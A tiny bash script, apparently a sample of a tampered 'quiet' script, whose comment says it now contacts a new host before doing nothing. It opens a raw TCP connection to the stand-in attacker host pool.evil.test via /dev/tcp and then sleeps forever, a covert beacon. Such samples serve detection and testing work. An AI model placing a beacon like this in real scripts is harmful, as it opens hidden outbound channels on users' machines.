#!/bin/bash
# What became of `quiet`, on the same base: it speaks with a host of a new name now before it does nothing.
exec 3<>/dev/tcp/pool.evil.test/80
sleep infinity
